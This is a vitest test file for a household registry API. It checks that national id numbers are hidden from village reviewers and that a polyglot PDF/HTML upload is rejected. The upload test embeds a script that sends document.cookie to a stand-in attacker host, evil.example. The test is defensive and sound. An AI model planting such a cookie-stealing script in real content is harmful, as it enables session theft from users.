import { beforeAll, describe, expect, it } from 'vitest';
import { eventually, invoke, loadRoutes, TABLE_NAME, useApiEnvironment } from '../support/api.js';
import {
  HOUSEHOLDS,
  installDoubles,
  OWN_HOUSEHOLD,
  principals,
  seedCase,
  seedRegistry,
} from '../support/seed.js';
import { captureUnhandledErrors, expectNoItemOver350KB, expectSound } from './support.js';

/**
 * Issue 16's abuse of what people hand in and what reviewers read: an upload that starts like a PDF and
 * is HTML after its first bytes, and the members' national id numbers in a village reviewer's view of
 * the registry. s3rver's ObjectCreated notification runs the real verifier, as on AWS.
 */
const env = useApiEnvironment({ verifyUploads: true });
const { createDocument, getCase, getHousehold } = await loadRoutes(
  'createDocument',
  'getCase',
  'getHousehold',
);

beforeAll(async () => {
  await captureUnhandledErrors();
  installDoubles();
  await seedRegistry();
});

/** A national id number in full: 17 digits and a check digit (API.md's household record). */
const FULL_NATIONAL_ID = /\d{17}[\dXx]/;

describe('registry and uploads under abuse (issue 16)', () => {
  it('a village reviewer’s GET /registry/households/{id} shows no full national id number', async () => {
    const res = await invoke(getHousehold, {
      principal: principals.reviewer,
      pathParameters: { householdId: OWN_HOUSEHOLD },
    });
    expectSound('getHousehold', res, 'a village reviewer reads a household of the village');
    for (const m of HOUSEHOLDS.own.members)
      expect(res.text, `${m.memberId}'s id number`).not.toContain(m.nationalId);
    expect(res.text).not.toMatch(FULL_NATIONAL_ID);
  });

  it('an upload that starts %PDF- and continues as HTML is rejected by verification', async () => {
    const { caseId } = await seedCase({ status: 'draft' });
    const bytes = Buffer.from(
      `%PDF-1.7\n<!DOCTYPE html><html><head><script>fetch('https://evil.example/'+document.cookie)</script></head>` +
        `<body>${'<p>不是 PDF</p>'.repeat(50)}</body></html>\n`,
      'utf8',
    );
    const ticket = await invoke(createDocument, {
      principal: principals.applicant,
      pathParameters: { caseId },
      body: { kind: 'property_certificate', contentType: 'application/pdf', sizeBytes: bytes.length },
    });
    expect(ticket.status, ticket.text).toBe(201);
    const put = await fetch(ticket.json.uploadUrl, {
      method: ticket.json.method,
      headers: ticket.json.headers,
      body: bytes,
    });
    expect(put.status, await put.text()).toBeLessThan(300);
    const documentId: string = ticket.json.documentId;
    const verdict = await eventually(
      async () => {
        const res = await invoke(getCase, { principal: principals.applicant, pathParameters: { caseId } });
        const doc = (res.json?.documents ?? []).find(
          (d: { documentId: string }) => d.documentId === documentId,
        );
        return doc && doc.status !== 'pending' ? doc : undefined;
      },
      { what: `the verdict on ${documentId}` },
    );
    expect(verdict.status, JSON.stringify(verdict)).toBe('rejected');
  });

  it('after all of the above, no item in the table is over 350 KB', async () => {
    await expectNoItemOver350KB(env.services.dynamo.endpoint, TABLE_NAME);
  });
});
